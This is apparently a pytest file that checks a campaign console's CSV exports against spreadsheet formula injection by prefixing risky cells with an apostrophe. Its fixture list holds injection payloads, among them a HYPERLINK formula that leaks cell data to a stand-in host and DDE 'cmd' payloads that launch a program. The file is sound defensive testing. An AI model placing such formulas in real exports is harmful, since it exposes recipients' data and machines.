"""CSV exports open safely in a spreadsheet: a recipient cannot plant a formula in the file
of whoever opens the export."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest

from desktop.cli import build_parser, main
from desktop.services.runtime.csv_export import neutralised, write_csv
from tests.conftest import MANAGER_PASSWORD
from tests.unit.preparation_data import add_delivery, add_recipient

HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your voucher")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def cli(database, db_url, monkeypatch, capsys):
    def run(*argv: str):
        monkeypatch.setenv("CAMPAIGN_CONSOLE_PASSWORD", MANAGER_PASSWORD)
        code = main(["--db", db_url, "--operator", "manager", *argv])
        captured = capsys.readouterr()
        return code, captured.out, captured.err

    return run


def test_an_exclusion_log_export_neutralises_formulas_and_keeps_plain_values(
    cli, sessions, tmp_path
):
    with sessions.begin() as s:
        add_recipient(s, "kept@example.com")
        ids = {
            add_recipient(s, f"evil{n}@example.com", first_name=name, denylisted=True): name
            for n, name in enumerate(HOSTILE_NAMES)
        }
        plain = add_recipient(s, "plain@example.com", first_name="Ann", denylisted=True)
        formula_address = add_recipient(s, "=1+1@example.com", first_name="Bob", denylisted=True)
        delivery_id = add_delivery(s)
    code, _, err = cli("delivery", "prepare", str(delivery_id), "--json")
    assert code == 0, err

    target = tmp_path / "exclusions.csv"
    code, out, err = cli("delivery", "exclusions", str(delivery_id), "--csv", str(target), "--json")
    assert code == 0, err
    assert json.loads(out)["rows"] == len(HOSTILE_NAMES) + 2

    with open(target, newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle))
    by_id = {int(row[0]): dict(zip(header, row, strict=True)) for row in rows}
    for recipient_id, name in ids.items():
        # Read back, the cell is the name as the spreadsheet will show it: text, apostrophe
        # first; nothing of the name is lost.
        assert by_id[recipient_id]["recipient"] == f"'{name} Smith"
    assert by_id[plain]["recipient"] == "Ann Smith"
    assert by_id[plain]["address"] == "plain@example.com"
    assert by_id[formula_address]["address"] == "'=1+1@example.com"
    assert {row["cause"] for row in by_id.values()} == {"denylisted"}
    # The ids are numbers the console wrote: a spreadsheet reads them as numbers.
    assert all(row[0].isdigit() for row in rows)


def test_the_export_option_says_values_are_neutralised(capsys):
    with pytest.raises(SystemExit):
        build_parser().parse_args(["delivery", "exclusions", "--help"])
    help_text = " ".join(capsys.readouterr().out.split())
    assert "run as a formula" in help_text and "leading '" in help_text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-5", "'-5"),  # a number typed as text is text: OWASP neutralises it
        ("@home", "'@home"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ann = Bob", "Ann = Bob"),
        ("", ""),
        (-5, -5),  # a number the console computed stays a number a spreadsheet can sum
        (Decimal("-12.50"), Decimal("-12.50")),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_what_a_cell_becomes(value, written):
    assert neutralised(value) == written


def test_rejected_lines_written_with_write_csv_are_neutralised_too():
    out = io.StringIO(newline="")
    rejected = [(2, '=HYPERLINK("https://evil.example") is not an address'), (7, "too long")]
    assert write_csv(out, ("line", "reason"), rejected) == 2
    out.seek(0)
    assert list(csv.reader(out)) == [
        ["line", "reason"],
        ["2", '\'=HYPERLINK("https://evil.example") is not an address'],
        ["7", "too long"],
    ]
